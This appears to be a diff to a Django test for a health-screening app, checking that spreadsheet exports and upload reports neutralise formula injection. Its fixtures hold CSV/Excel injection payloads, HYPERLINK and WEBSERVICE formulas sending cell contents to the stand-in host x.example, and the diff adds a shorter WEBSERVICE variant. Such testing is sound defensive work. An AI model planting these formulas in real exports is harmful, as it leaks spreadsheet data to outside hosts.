@@ -24,6 +24,7 @@ from .conftest import screened
 
 LINK = '=HYPERLINK("http://x.example/?"&A1,"点我")'
 CALL = '=WEBSERVICE("http://x.example/?"&D2)'
+SHORT_CALL = "=WEBSERVICE(D2)"  # a relation to the head holds 20 characters at most
 PURPOSE = {"purpose": "核对"}
 
 
@@ -74,7 +75,7 @@ def test_the_visit_template_coverage_exports_and_upload_report_hold_no_formula(
     Household.objects.filter(pk=g1.pk).update(
         address=LINK, road="", house_number="", building="", unit="", room=""
     )
-    Person.objects.filter(household=g1).update(relation=CALL)
+    Person.objects.filter(household=g1).update(relation=SHORT_CALL)
     person = Person.objects.filter(household=g1).order_by("pk").first()
     visit_record(user=worker, campaign=campaign, visit=screened(g1, temperature="38.5"))
     Person.objects.filter(pk=person.pk).update(name="=1+1")
@@ -85,7 +86,7 @@ def test_the_visit_template_coverage_exports_and_upload_report_hold_no_formula(
     assignment = Assignment.objects.get(worker=worker)
     template_url = reverse("screening:assignment_template", args=[campaign.pk, assignment.pk])
     template = body(field.get(template_url, PURPOSE))
-    assert_text_not_formula(template, LINK, CALL, "=1+1")
+    assert_text_not_formula(template, LINK, SHORT_CALL, "=1+1")
 
     # the report of an upload whose household numbers are formulas
     path = write_xlsx(
@@ -102,7 +103,7 @@ def test_the_visit_template_coverage_exports_and_upload_report_hold_no_formula(
     for name, query, texts in [
         ("coverage_export", "area=C1", ()),
         ("coverage_list_export", "area=G1&state=", (LINK,)),
-        ("flagged_export", "area=C1", (LINK, CALL, "=1+1")),
+        ("flagged_export", "area=C1", (LINK, SHORT_CALL, "=1+1")),
     ]:
         url = reverse(f"screening:{name}", args=[campaign.pk]) + "?" + query
         response = admin.post(url, {"purpose": "核对"})
